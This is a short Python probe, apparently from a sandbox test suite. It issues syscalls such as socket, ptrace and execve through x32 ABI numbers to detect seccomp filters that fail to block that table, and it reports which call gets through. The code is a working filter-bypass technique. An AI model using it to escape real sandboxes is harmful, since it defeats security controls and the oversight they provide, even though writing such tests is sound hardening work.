"""Make system calls by the x32 table's numbers, which a careless filter does not know."""

import ctypes
import errno
import os

X32 = 0x40000000
CALLS = {"getpid": 39, "socket": 41, "open": 2, "fork": 57, "ptrace": 521, "execve": 520, "recvfrom": 517}


def attack():
    if os.uname().machine != "x86_64":
        return None
    libc = ctypes.CDLL(None, use_errno=True)
    for name, number in CALLS.items():
        result = libc.syscall(ctypes.c_long(X32 | number), *map(ctypes.c_long, (1, 1, 0, 0)))
        if result == 0 and name == "fork":
            os._exit(0)
        if result >= 0 or ctypes.get_errno() != errno.ENOSYS:
            return f"the x32 {name} answers {result}, {os.strerror(ctypes.get_errno())}"
